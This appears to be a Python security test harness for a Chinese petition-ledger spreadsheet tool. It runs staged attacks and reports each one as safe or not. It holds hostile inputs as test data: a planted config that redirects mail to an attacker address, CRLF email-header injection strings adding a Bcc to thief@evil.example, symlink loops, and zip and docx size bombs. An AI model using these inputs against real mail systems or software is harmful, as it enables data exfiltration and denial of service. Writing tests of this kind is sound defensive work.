"""Trust, round 2 (issue 20): one attack a class, run as whole processes, each judged safe or not.

    python tests/hostile/trust_table.py --attacks                 # this checkout
    python tests/hostile/trust_table.py --attacks --source DIR    # another checkout (e.g. before the fixes)

Each attack builds its inputs in a temporary folder (nothing is committed), runs the commands a clerk or a
hostile unit would, and says in one line what happened. "safe" is the outcome the issue asks for: rows
accounted for, no planted value in any written part, every part well-formed, a clear refusal instead of a
crash. Attacks that need Excel's VBA or the remote engine (items 4, 5, 9) are pytest tests, not rows here.
"""
from __future__ import annotations

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import unicodedata
import zipfile
from pathlib import Path
from typing import Callable

import openpyxl
from lxml import etree

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
SAMPLES = ROOT / "xfsheets" / "samples"
AS_OF = "2026-11-25"

def _cn(text: str) -> str:
    """Chinese numerals people type for digits (幺 for 1 and 两 for 2, as read aloud on the phone)."""
    table = {"〇": "0", "零": "0", "一": "1", "幺": "1", "二": "2", "两": "2", "三": "3", "四": "4", "五": "5",
             "六": "6", "七": "7", "八": "8", "九": "9"}
    return "".join(table.get(ch, ch) for ch in text)


def digits_only(text: str) -> str:
    """Every digit a reader could see in ``text``, in order: NFKC, Chinese numerals, other scripts' digits."""
    text = _cn(unicodedata.normalize("NFKC", text))
    out = []
    for ch in text:
        if ch.isdigit():
            out.append(str(unicodedata.digit(ch, 0)))
        elif ch in "Xx":
            out.append("X")
    return "".join(out)


def written_texts(path: Path) -> list[str]:
    """The file name plus every text a file carries: each zip part (recursing into an attached mail)."""
    texts = [path.name]
    data = path.read_bytes()
    if data[:2] == b"PK":
        with zipfile.ZipFile(path) as z:
            texts += [z.read(n).decode("utf-8", "replace") for n in z.namelist()]
    elif path.suffix == ".eml":
        import email
        from email import policy as email_policy
        msg = email.message_from_bytes(data, policy=email_policy.default)
        texts += [str(v) for v in msg.values()]
        for part in msg.walk():
            payload = part.get_payload(decode=True) or b""
            texts.append(str(part.get_filename() or ""))
            if payload[:2] == b"PK":
                tmp = Path(tempfile.mkdtemp()) / "part.zip"
                tmp.write_bytes(payload)
                texts += written_texts(tmp)[1:]
            elif payload:
                texts.append(payload.decode("utf-8", "replace"))
    else:
        texts.append(data.decode("utf-8", "replace"))
    return texts


def planted_found(paths: list[Path], planted: list[str]) -> list[str]:
    found = []
    for p in paths:
        for text in written_texts(p):
            # XML escapes a line break as &#10;: unescape numeric references first
            text = re.sub(r"&#(\d+);", lambda m: chr(int(m.group(1))), text)
            flat = digits_only(text)
            found += [f"{p.name}:{d}" for d in planted if d in flat]
    return found


class Runner:
    def __init__(self, source: Path | None):
        self.source = source

    def __call__(self, args: list, cwd: Path | None = None, timeout: int = 180, env: dict | None = None
                 ) -> tuple[int, str, str]:
        e = dict(os.environ, **(env or {}))
        if self.source is not None:
            e["PYTHONPATH"] = str(self.source)
        cmd = [sys.executable, "-c", "from xfsheets.cli import main; main()", *map(os.fsdecode, args)]
        try:
            p = subprocess.run(cmd, capture_output=True, env=e, timeout=timeout, cwd=cwd or tempfile.gettempdir())
            return p.returncode, p.stdout.decode("utf-8", "replace"), p.stderr.decode("utf-8", "replace")
        except subprocess.TimeoutExpired:
            return -999, "", "timeout"

    def popen(self, args: list, cwd: Path | None = None) -> subprocess.Popen:
        e = dict(os.environ)
        if self.source is not None:
            e["PYTHONPATH"] = str(self.source)
        return subprocess.Popen([sys.executable, "-c", "from xfsheets.cli import main; main()",
                                 *map(os.fsdecode, args)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                cwd=cwd or tempfile.gettempdir(), env=e, start_new_session=True)


def clean(code: int, out: str, err: str) -> bool:
    """A refusal or a result a clerk can act on: exit 0/1/2, no traceback, no internal error."""
    return code in (0, 1, 2) and "Traceback" not in out + err and "程序内部错误" not in err


def rows_of(doc: dict) -> tuple[int, int, int]:
    listed = sum(len(f.get("skipped") or []) if isinstance(f.get("skipped"), list) else int(f.get("skipped") or 0)
                 for f in doc.get("files", []))
    return doc.get("rows_in", 0), doc.get("rows_out", 0), listed


def consolidate(run: Runner, inputs: list[Path], out: Path) -> tuple[int, dict, str]:
    code, stdout, stderr = run(["consolidate", *inputs, "-o", out, "--json"])
    try:
        return code, json.loads(stdout), stderr
    except ValueError:
        return code, {}, stderr


# ---------------------------------------------------------------- the attacks


def a1_township_ledger(run: Runner, work: Path) -> tuple[bool, str]:
    town = work / "城关镇"
    town.mkdir()
    for n in ("县人社局台账.xlsx", "县住建局台账.xlsx"):
        shutil.copy(SAMPLES / n, town / n)
    direct_code, direct, _ = consolidate(run, [town, SAMPLES / "县信访局台账.xlsx"], work / "直接汇总.xlsx")
    code, _, _ = consolidate(run, [town], work / "城关镇汇总.xlsx")
    county = work / "县"
    county.mkdir()
    shutil.copy(work / "城关镇汇总.xlsx", county / "城关镇汇总.xlsx")
    shutil.copy(SAMPLES / "县信访局台账.xlsx", county / "县信访局台账.xlsx")
    code, doc, err = consolidate(run, [county], work / "县汇总.xlsx")
    want = direct.get("rows_out", -1)
    got = doc.get("rows_out", 0)
    return got == want, f"县汇总 {got} 行，应为 {want} 行（exit {code}）"


def a1_corrected_copy(run: Runner, work: Path) -> tuple[bool, str]:
    src = SAMPLES / "县人社局台账.xlsx"
    run(["check", src, "-o", work / "人社局_检查.xlsx"])
    if not (work / "人社局_检查.xlsx").exists():
        return False, "check -o 未生成副本"
    wb = openpyxl.load_workbook(work / "人社局_检查.xlsx")
    ws = wb.worksheets[0]
    ws.cell(row=5, column=3).value = "更正后的内容"  # the unit corrects a cell and saves
    folder = work / "报送"
    folder.mkdir()
    wb.save(folder / "人社局_检查.xlsx")
    shutil.copy(SAMPLES / "县住建局台账.xlsx", folder / "县住建局台账.xlsx")
    _, direct, _ = consolidate(run, [src, SAMPLES / "县住建局台账.xlsx"], work / "直接.xlsx")
    code, doc, _ = consolidate(run, [folder], work / "汇总.xlsx")
    want, got = direct.get("rows_out", -1), doc.get("rows_out", 0)
    return got == want, f"{got} 行，应为 {want} 行（exit {code}）"


def a1_two_levels_once(run: Runner, work: Path) -> tuple[bool, str]:
    a, b = SAMPLES / "县人社局台账.xlsx", SAMPLES / "县住建局台账.xlsx"
    consolidate(run, [a, b], work / "乡镇汇总.xlsx")
    _, direct, _ = consolidate(run, [a, b], work / "直接.xlsx")
    code, doc, _ = consolidate(run, [work / "乡镇汇总.xlsx", a], work / "县汇总.xlsx")
    rows_in, rows_out, listed = rows_of(doc)
    want = direct.get("rows_out", -1)
    ok = rows_out == want and rows_in == rows_out + listed + len(doc.get("duplicates") or []) * 0 or (
        rows_out == want and rows_in >= rows_out)
    return ok, f"同一事项经两级报送：汇总 {rows_out} 行，应为 {want} 行（读入 {rows_in}，列明 {listed}）"


def a2_links(run: Runner, work: Path) -> tuple[bool, str]:
    folder, outside = work / "报送", work / "别处"
    folder.mkdir()
    outside.mkdir()
    shutil.copy(SAMPLES / "县人社局台账.xlsx", folder / "甲.xlsx")
    real = folder / "真实子文件夹"
    real.mkdir()
    shutil.copy(SAMPLES / "县住建局台账.xlsx", real / "乙.xlsx")
    shutil.copy(SAMPLES / "城关镇台账.xlsx", outside / "丙.xlsx")
    (folder / "链到子文件夹").symlink_to(real, target_is_directory=True)
    (folder / "链到别处").symlink_to(outside, target_is_directory=True)
    (folder / "断开的链接.xlsx").symlink_to(work / "不存在.xlsx")
    (folder / "自指.xlsx").symlink_to(folder / "自指.xlsx")
    (folder / "回环").symlink_to(folder, target_is_directory=True)
    code, doc, err = consolidate(run, [folder], work / "汇总.xlsx")
    text = json.dumps(doc, ensure_ascii=False)
    names = ["甲.xlsx", "乙.xlsx", "链到子文件夹", "链到别处", "断开的链接.xlsx", "自指.xlsx", "回环"]
    missing = [n for n in names if n not in text]
    return not missing and clean(code, "", err), ("全部读入或列明" if not missing else "未提及：" + "、".join(missing))


def _wide_ledger(path: Path) -> Path:
    wb = openpyxl.load_workbook(SAMPLES / "县住建局台账.xlsx")
    ws = wb.worksheets[0]
    ws.cell(row=3, column=16384).value = "最右一列"
    wb.save(path)
    return path


def a3_one_file_costs_itself(run: Runner, work: Path) -> tuple[bool, str]:
    folder = work / "报送"
    folder.mkdir()
    shutil.copy(SAMPLES / "县人社局台账.xlsx", folder / "甲.xlsx")
    gbk = os.fsencode(folder) + b"/" + "乡镇台账.xlsx".encode("gbk")
    with open(gbk, "wb") as fh:
        fh.write((SAMPLES / "城关镇台账.xlsx").read_bytes())
    _wide_ledger(folder / "宽表.xlsx")
    _, alone, _ = consolidate(run, [folder / "甲.xlsx"], work / "单个.xlsx")
    code, doc, err = consolidate(run, [folder], work / "汇总.xlsx")
    statuses = [f.get("status") for f in doc.get("files", [])]
    got = doc.get("rows_out", 0)
    ok = (work / "汇总.xlsx").exists() and len(statuses) == 3 and got >= alone.get("rows_out", 1) and clean(
        code, "", err)
    return ok, f"exit {code}，文件 {len(statuses)} 个（{','.join(map(str, statuses))}），汇总 {got} 行"


def a6_planted_settings(run: Runner, work: Path) -> tuple[bool, str]:
    code, _, _ = run(["report", SAMPLES / "县人社局台账.xlsx", "-o", work / "月报.xlsx", "--as-of", AS_OF,
                      "--from", "2026-01-01"])
    desk = work / "桌面"
    desk.mkdir()
    (desk / "xfsheets.toml").write_text('[mail]\nsmtp = "127.0.0.9:2525"\ncc = ["thief@evil.example"]\n'
                                        'sender = "thief@evil.example"\n', encoding="utf-8")
    shutil.copy(work / "月报.xlsx", desk / "月报.xlsx")
    code, out, err = run(["mail", desk / "月报.xlsx", "--to", "shi@xf.gov.cn", "--from", "xian@xf.gov.cn",
                          "--eml", work / "报送.eml"], cwd=desk)
    eml = work / "报送.eml"
    planted = eml.exists() and "evil.example" in eml.read_text("utf-8", "replace")
    return not planted and clean(code, out, err), ("当前文件夹的 xfsheets.toml 改了收件人" if planted
                                                  else f"未被采用（exit {code}）")


def _template_with_secrets(path: Path) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "交办单"
    ws["A1"] = "交办单"
    ws["A2"] = "信访人：{{信访人}}"
    ws["A3"] = "反映问题：{{反映问题}}"
    ws["A4"] = "='[外单位.xlsx]Sheet1'!A1"
    hidden = wb.create_sheet("机密")
    hidden["A1"] = "隐藏表里的机密内容"
    hidden.sheet_state = "veryHidden"
    wb.save(path)
    return path


def a7_template(run: Runner, work: Path) -> tuple[bool, str]:
    tpl = _template_with_secrets(work / "模板.xlsx")
    code, out, err = run(["slips", SAMPLES / "县人社局台账.xlsx", "-o", work / "交办单", "--template", tpl,
                          "--as-of", AS_OF])
    slips = list((work / "交办单").glob("*.xlsx")) if (work / "交办单").exists() else []
    bad = [p.name for p in slips if any("机密内容" in t or "外单位.xlsx" in t or "veryHidden" in t
                                         for t in written_texts(p))]
    return bool(slips) and not bad and clean(code, out, err), (
        f"{len(slips)} 份交办单，{len(bad)} 份带有隐藏表或外部链接（exit {code}）")


def a7_template_bomb(run: Runner, work: Path) -> tuple[bool, str]:
    sys.path.insert(0, str(HERE))
    import make_bombs
    bomb = make_bombs.dimension_bomb(work / "炸弹模板.xlsx")
    start = time.time()
    code, out, err = run(["slips", SAMPLES / "县人社局台账.xlsx", "-o", work / "交办单", "--template", bomb,
                          "--as-of", AS_OF], timeout=60)
    return code == 2 and clean(code, out, err), f"exit {code}，{time.time() - start:.0f} 秒"


PLANTED = ["450324199001051352", "13912345678", "13800138000", "15077112345"]
FORMS = {
    "身份证号": ["4503\u200b24199001051352", "450324-1990-01-05-1352", "450324 19900105\n1352"],
    "联系电话": ["139\u200d1234\u00ad5678", "一三八〇〇一三八〇〇〇", "150/7711/2345"],
}


def a8_personal_forms(run: Runner, work: Path) -> tuple[bool, str]:
    wb = openpyxl.load_workbook(SAMPLES / "县人社局台账.xlsx")
    ws = wb.worksheets[0]
    header_row = next(r for r in range(1, 6) if any(c.value == "身份证号码" for c in ws[r]))
    cols = {c.value: c.column for c in ws[header_row]}
    for i, (idv, phone) in enumerate(zip(FORMS["身份证号"], FORMS["联系电话"])):
        ws.cell(row=header_row + 1 + i, column=cols["身份证号码"]).value = idv
        ws.cell(row=header_row + 1 + i, column=cols["联系方式"]).value = phone
    risk = ws.max_column + 1  # a 风险等级 column, so that the zero reports (and their file names) are written
    ws.cell(row=header_row, column=risk).value = "风险等级"
    for r in range(header_row + 1, ws.max_row + 1):
        ws.cell(row=r, column=risk).value = "低"
    unit_col = cols.get("承办单位")
    if unit_col:
        ws.cell(row=header_row + 4, column=unit_col).value = "县人社局" + "\u200b"  # invisible twin of a name
        ws.cell(row=header_row + 5, column=unit_col).value = "城关镇（联系人一五〇七七一一二三四五）"
    ledger = work / "粘贴台账.xlsx"
    wb.save(ledger)
    up = []
    for args in (["report", ledger, "-o", work / "月报.xlsx", "--as-of", AS_OF, "--from", "2026-01-01"],
                 ["report", ledger, "--zero", "-o", work / "零报告", "--as-of", AS_OF, "--from", "2026-11-01",
                  "--to", AS_OF]):
        run(args)
    if (work / "月报.xlsx").exists():
        run(["mail", work / "月报.xlsx", "--to", "shi@xf.gov.cn", "--from", "xian@xf.gov.cn",
             "--eml", work / "报送.eml"])
    run(["mail", ledger, "--to", "shi@xf.gov.cn", "--from", "xian@xf.gov.cn", "--eml", work / "台账报送.eml"])
    up = [p for p in work.rglob("*") if p.is_file() and p != ledger and p.suffix in (".xlsx", ".eml")]
    found = planted_found(up, PLANTED)
    zero = [p.stem for p in (work / "零报告").glob("*.xlsx")] if (work / "零报告").exists() else []
    twins = len(zero) != len({unicodedata.normalize("NFKC", re.sub(r"[\u200b-\u200f\u2060\ufeff]", "", n))
                             for n in zero})
    ok = up and not found and not twins
    return bool(ok), (f"{len(up)} 个上报文件，{len(found)} 处未脱敏" + ("，两个同名零报告" if twins else ""))


def a10_mail_headers(run: Runner, work: Path) -> tuple[bool, str]:
    run(["report", SAMPLES / "县人社局台账.xlsx", "-o", work / "月报.xlsx", "--as-of", AS_OF,
         "--from", "2026-01-01"])
    report = work / "月报.xlsx"
    cases = {
        "主题含换行": ["--to", "shi@xf.gov.cn", "--subject", "月报\r\nBcc: thief@evil.example"],
        "收件人显示名含换行": ["--to", '"市信访局\r\nBcc: thief@evil.example" <shi@xf.gov.cn>'],
        "两个地址连写": ["--to", "shi@xf.gov.cnsheng@xf.gov.cn"],
        "两个地址空格分开": ["--to", "shi@xf.gov.cn sheng@xf.gov.cn"],
    }
    bad = []
    for name, extra in cases.items():
        eml = work / f"{name}.eml"
        code, out, err = run(["mail", report, "--from", "xian@xf.gov.cn", "--eml", eml, *extra])
        text = eml.read_text("utf-8", "replace") if eml.exists() else ""
        smuggled = "evil.example" in text and re.search(r"^(Bcc|Cc|To):.*evil", text, re.M | re.I)
        # two addresses must both arrive or be refused; an injected header must be refused
        dropped = name.startswith("两个地址") and eml.exists() and not (
            re.search(r"^To:.*shi@xf\.gov\.cn", text, re.M) and re.search(r"^To:.*sheng@xf\.gov\.cn", text, re.M))
        if not clean(code, out, err) or smuggled or dropped or (code == 0 and not name.startswith("两个地址")):
            bad.append(name)
    return not bad, ("都被拒绝并说明" if not bad else "不安全：" + "、".join(bad))


def a11_parts_well_formed(run: Runner, work: Path) -> tuple[bool, str]:
    wb = openpyxl.load_workbook(SAMPLES / "县人社局台账.xlsx")
    wb.save(work / "openpyxl保存的台账.xlsx")
    code, out, err = run(["check", work / "openpyxl保存的台账.xlsx", "-o", work / "检查.xlsx"])
    if not (work / "检查.xlsx").exists():
        return False, f"未生成（exit {code}）"
    broken = []
    with zipfile.ZipFile(work / "检查.xlsx") as z:
        for n in z.namelist():
            if n.endswith((".xml", ".rels", ".vml")):
                try:
                    etree.fromstring(z.read(n))
                except etree.XMLSyntaxError:
                    broken.append(n)
    return not broken, ("每个部件都能解析" if not broken else "不合规：" + "、".join(broken))


def _folder_digest(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def a12_slips_rerun(run: Runner, work: Path) -> tuple[bool, str]:
    out = work / "交办单"
    run(["slips", SAMPLES / "县信访局台账.xlsx", "-o", out, "--as-of", AS_OF])
    slips = sorted(out.glob("*.xlsx"))
    if len(slips) < 2:
        return False, "首次未生成交办单"
    wb = openpyxl.load_workbook(slips[-1])  # a clerk edits one slip and saves it
    wb.worksheets[0]["A1"] = "改过"
    wb.save(slips[-1])
    before = _folder_digest(out)
    code, _, err = run(["slips", SAMPLES / "县信访局台账.xlsx", "-o", out, "--as-of", "2026-11-26"])
    same = _folder_digest(out) == before
    return same and code == 2, f"重跑 exit {code}，文件夹{'原样' if same else '已部分替换'}"


def a12_sigterm(run: Runner, work: Path) -> tuple[bool, str]:
    big = work / "大台账.xlsx"
    wb = openpyxl.load_workbook(SAMPLES / "县信访局台账.xlsx")
    ws = wb.worksheets[0]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=3, max_row=ws.max_row)]
    for k in range(8):
        for r in rows:
            ws.append([f"{v}-{k}" if isinstance(v, str) and v.startswith("XF") else v for v in r])
    wb.save(big)
    left = []
    for delay in (1.5, 3.0, 5.0):
        out = work / f"交办单{delay}"
        p = run.popen(["slips", big, "-o", out, "--as-of", AS_OF], cwd=work)
        time.sleep(delay)
        p.send_signal(signal.SIGTERM)
        p.wait(timeout=60)
        left += [x.name for x in work.iterdir() if x.name.startswith(".") and x.is_dir()]
        for x in work.iterdir():
            if x.name.startswith(".") and x.is_dir():
                shutil.rmtree(x)
    return not left, ("无残留" if not left else f"残留隐藏文件夹 {len(left)} 个")


def a13_policy_bounds(run: Runner, work: Path) -> tuple[bool, str]:
    bad = []
    for name, days in (("6000天", 6000), ("2^63-1", 2 ** 63 - 1)):
        pol = work / f"规则{name}.toml"
        pol.write_text(f"[stages.handle]\ndays = {days}\n", encoding="utf-8")
        code, out, err = run(["deadlines", SAMPLES / "县人社局台账.xlsx", "--policy", pol, "--json",
                              "--as-of", AS_OF])
        if code != 2 or not clean(code, out, err):
            bad.append(f"{name} exit {code}")
    return not bad, ("都被拒绝并说明范围" if not bad else "；".join(bad))


def notice_docx(path: Path, megabytes: int = 3) -> Path:
    """A small .docx (zipped) whose 元旦 paragraph goes on for ``megabytes`` MB of dates."""
    para = "一、元旦：" + "1月1日（" * (megabytes * 200_000) + "上班。"  # dates, no closing bracket
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
           '<w:p><w:r><w:t>国务院办公厅关于2027年部分节假日安排的通知</w:t></w:r></w:p>'
           f'<w:p><w:r><w:t>{para}</w:t></w:r></w:p></w:body></w:document>')
    ct = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
          'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
          'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
          '"/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
          'document.main+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr("_rels/.rels", rels)
        z.writestr("word/document.xml", doc)
    return path


def a13_notice_bomb(run: Runner, work: Path) -> tuple[bool, str]:
    path = notice_docx(work / "通知.docx")
    start = time.time()
    code, out, err = run(["calendar", "import", path, "-o", work / "节假日.xlsx"], timeout=60)
    took = time.time() - start
    return code == 2 and clean(code, out, err), f"exit {code}，{took:.1f} 秒"


def a14_gbk_name(run: Runner, work: Path) -> tuple[bool, str]:
    name = os.fsencode(work) + b"/" + "城关镇台账.xlsx".encode("gbk")
    with open(name, "wb") as fh:
        fh.write((SAMPLES / "城关镇台账.xlsx").read_bytes())
    code, out, err = run(["check", name])
    said = "文件名" in err and "损坏" not in err
    return code in (0, 1, 2) and said and clean(code, out, err), f"exit {code}：{err.strip().splitlines()[-1][:60] if err.strip() else ''}"


ATTACKS: list[tuple[str, str, Callable]] = [
    ("1", "乡镇汇总台账报到县里", a1_township_ledger),
    ("1", "单位改过的检查副本报上来", a1_corrected_copy),
    ("1", "同一事项经两级报送", a1_two_levels_once),
    ("2", "符号链接、断链、回环", a2_links),
    ("3", "GBK 文件名和 16384 列的台账混在一批里", a3_one_file_costs_itself),
    ("6", "当前文件夹里放一个 xfsheets.toml", a6_planted_settings),
    ("7", "模板带隐藏表和外部链接", a7_template),
    ("7", "模板是尺寸炸弹", a7_template_bomb),
    ("8", "零宽字符、中文数字、分组写法的证件号和电话", a8_personal_forms),
    ("10", "邮件头注入和连写的地址", a10_mail_headers),
    ("11", "openpyxl 保存过的台账 check -o", a11_parts_well_formed),
    ("12", "交办单重跑时一份旧单替换不了", a12_slips_rerun),
    ("12", "生成交办单时收到 SIGTERM", a12_sigterm),
    ("13", "规则文件里 6000 天和 2^63-1", a13_policy_bounds),
    ("13", "3 MB 日期段落的放假通知 .docx", a13_notice_bomb),
    ("14", "GBK 字节的文件名直接给 check", a14_gbk_name),
]


def table(source: Path | None) -> list[tuple[str, str, bool, str]]:
    run = Runner(source)
    rows = []
    for item, what, attack in ATTACKS:
        with tempfile.TemporaryDirectory(prefix="xfsheets-attack-") as tmp:
            try:
                ok, outcome = attack(run, Path(tmp))
            except Exception as exc:  # an attack that cannot even be set up is reported, not hidden
                ok, outcome = False, f"无法执行：{type(exc).__name__}: {exc}"[:120]
        rows.append((item, what, ok, outcome))
    return rows


def print_table(source: Path | None) -> None:
    rows = table(source)
    print(f"attacks (issue 20): {sum(r[2] for r in rows)} of {len(rows)} safe, "
          f"{'source ' + str(source) if source else 'this checkout'}")
    print("| item | attack | safe | outcome |")
    print("|---|---|---|---|")
    for item, what, ok, outcome in rows:
        print(f"| {item} | {what} | {'yes' if ok else '**no**'} | {outcome} |")
